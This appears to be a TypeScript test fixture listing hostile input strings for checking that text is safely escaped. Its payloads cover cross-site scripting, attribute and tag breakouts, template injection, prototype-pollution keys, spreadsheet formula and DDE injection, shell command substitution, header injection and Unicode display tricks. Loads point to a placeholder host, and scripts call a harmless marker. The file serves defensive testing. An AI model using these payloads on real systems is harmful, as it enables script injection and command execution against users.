/** Where an attack would lead that loads something. */
const ELSEWHERE = 'http://attack.invalid/x'

/**
 * Texts as a hostile service, or a hostile file name, would have them. Whatever runs of them calls `struck()`; whatever loads
 * asks another origin.
 */
export const ATTACKS: readonly string[] = [
  // Elements that run or load something.
  '<script>struck()</script>',
  `<script src="${ELSEWHERE}"></script>`,
  '<ScRiPt >struck()</ScRiPt >',
  '<<script>script>struck()//<</script>/script>',
  '<img src=x onerror=struck()>',
  `<img src="${ELSEWHERE}">`,
  '<svg onload=struck()>',
  '<svg><script>struck()</script></svg>',
  '<svg><animate onbegin=struck() attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=struck()>',
  '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
  '<object data="javascript:struck()"></object>',
  '<video><source onerror=struck()></video>',
  '<details open ontoggle=struck()>',
  '<input autofocus onfocus=struck()>',
  '<body onload=struck()>',
  `<base href="${ELSEWHERE}">`,
  '<meta http-equiv="refresh" content="0;url=javascript:struck()">',
  `<link rel=stylesheet href="${ELSEWHERE}">`,
  '<style>@import"http://attack.invalid/x";*{background:url(http://attack.invalid/y)}</style>',
  '<template><img src=x onerror=struck()></template>',
  '<noscript><p title="</noscript><img src=x onerror=struck()>">',
  '<a href="javascript:struck()">here</a>',
  // Ways out of an attribute, a tag, a comment or a text of a script.
  '" onmouseover="struck()" autofocus onfocus="struck()" x="',
  "' onerror='struck()' src='x",
  '"><img src=x onerror=struck()>',
  "'><svg onload=struck()>",
  '`><img src=x onerror=struck()>`',
  '</textarea><script>struck()</script>',
  '</title></style></pre></script><img src=x onerror=struck()>',
  '--><script>struck()</script><!--',
  ']]><script>struck()</script><![CDATA[',
  "');struck();//",
  '\\");struck();//',
  '&lt;img src=x onerror=struck()&gt;',
  '&#60;img src=x onerror=struck()&#62;',
  // Addresses and styles.
  'javascript:struck()',
  'JaVaScRiPt:struck()',
  'data:text/html,<script>opener.struck()</script>',
  'url(http://attack.invalid/x)',
  `x, ${ELSEWHERE} 2x`,
  'red;background:url(http://attack.invalid/x)',
  // Templates.
  '${struck()}',
  '{{constructor.constructor("struck()")()}}',
  '{{name}} {{- name}} {{message}}',
  '$t(common:close)',
  '$t(common:close, {"count": 1}) {{count}}',
  '<%= struck() %> #{struck()} *{struck()}',
  '__proto__',
  'constructor',
  'toString',
  // What spreadsheets and shells run.
  '=HYPERLINK("http://attack.invalid/x","open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '$(struck) `struck` ; struck | struck',
  // What readers trip over.
  'null',
  'undefined',
  '%00%0d%0aSet-Cookie: struck=1',
  'abc \u202e)(kcurts=rorreno x=crs gmi<',
  '\u2066<img src=x onerror=struck()>\u2069',
  'zero\u200bwidth\ufeff and \ud83d\udc68\u200d\u2708\ufe0f',
  `Z${'\u0351\u0348\u033a\u0317'.repeat(12)}algo`,
  `long ${'<b>'.repeat(700)}`,
]
